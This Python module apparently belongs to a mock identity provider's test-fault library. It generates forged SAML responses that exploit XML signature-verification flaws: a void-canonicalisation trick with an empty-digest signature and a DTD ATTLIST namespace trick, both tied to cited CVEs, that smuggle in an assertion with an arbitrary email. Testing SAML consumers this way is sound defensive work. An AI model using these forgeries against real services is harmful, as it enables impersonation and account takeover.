"""Messages that parsers or canonicalisers of different make understand differently, or not at all."""

from __future__ import annotations

import base64
import hashlib

from lxml import etree

from mock_idp.faults.model import FaultCannotApplyError, Param, Params
from mock_idp.faults.registry import fault
from mock_idp.faults.saml.message import NAMES, SamlMessage, replace_email
from mock_idp.faults.saml.signing.dsig import DS, Signed, attacked
from mock_idp.faults.saml.text.markup import ANYWHERE, EMAIL, rewritten, with_doctype
from mock_idp.faults.saml.wrapping.forgery import forged_assertion, signature_of, signed_assertion

NOTHING = base64.b64encode(hashlib.sha256(b"").digest()).decode("ascii")
_PLACEHOLDER = "urn:void-namespace"
_NAMESPACES = {"relative": "1", "not-a-uri": "\u0080"}


@fault(
    "saml.text.void-canonicalization",
    stage="serialised",
    fault_class="parser",
    params={
        **EMAIL,
        "void": Param(choices=("content", "content-and-signed-info")),
        "namespace": Param(choices=tuple(_NAMESPACES)),
    },
    touches=ANYWHERE,
)
def void_canonicalization(message: SamlMessage, params: Params) -> str:
    """The forged content declares a namespace that C14N cannot take; the key signs the digest of nothing.

    Wrappers that ignore the failure digest an empty text. With `content-and-signed-info` the SignedInfo is
    void too, so that the signature of an empty text fits any message (CVE-2025-66475)."""
    signed = attacked(message)
    said = replace_email(message.assertion, str(params["email"]))
    signed.part("ds:SignedInfo/ds:Reference/ds:DigestValue").text = NOTHING
    signed.resign(message.key)
    void = [message.one("saml:Assertion/saml:Subject")]  # not around the Signature, whose own form holds
    if params["void"] == "content-and-signed-info":
        void.append(signed.part("ds:SignedInfo"))
        octets = base64.b64encode(message.key.sign(b"")).decode("ascii")
        signed.part("ds:SignatureValue").text = octets
    for number, element in enumerate(void):
        element.set(f"void-{number}", _PLACEHOLDER)
    rewritten(message)
    for number in range(len(void)):
        declared = f'xmlns:zz="{_NAMESPACES[str(params["namespace"])]}"'
        message.text = message.text.replace(f'void-{number}="{_PLACEHOLDER}"', declared)
    return f"A namespace of no URI is declared, and DigestValue is of nothing. {' '.join(said)}"


@fault(
    "saml.text.attribute-list",
    stage="serialised",
    fault_class="parser",
    params=EMAIL,
    touches=ANYWHERE,
)
def attribute_list(message: SamlMessage, params: Params) -> str:
    """The DTD gives an unprefixed Signature in StatusDetail its namespace, so that only some parsers see it.

    With it stands the assertion that it signs; the Response's own assertion is a forged, unsigned one
    (the shape of CVE-2025-25292)."""
    genuine = signed_assertion(message)
    forged = forged_assertion(message, str(params["email"]))
    genuine.addprevious(forged)
    bare = _unprefixed(signature_of(genuine))
    genuine.remove(signature_of(genuine))
    detail = etree.SubElement(message.one("samlp:Status"), f"{{{NAMES['samlp']}}}StatusDetail")
    detail.append(genuine)
    detail.append(bare)
    Signed(genuine, bare).resign(message.key)
    rewritten(message)
    marked = f'<Signature xmlns="{DS}"'
    before, found, after = message.text.rpartition(marked)
    if not found:
        raise FaultCannotApplyError("The Signature was not written as expected.")
    message.text = f"{before}<Signature{after}"
    message.text = with_doctype(message.text, f'<!ATTLIST Signature xmlns CDATA #FIXED "{DS}">')
    return f"A Signature in StatusDetail has its namespace from the DTD; forged: {params['email']}."


def _unprefixed(signature: etree._Element) -> etree._Element:
    """A copy of the Signature in its default namespace."""
    text = etree.tostring(signature, encoding="unicode", with_tail=False)
    text = text.replace("<ds:", "<").replace("</ds:", "</").replace(f'xmlns:ds="{DS}"', f'xmlns="{DS}"')
    return etree.fromstring(text)
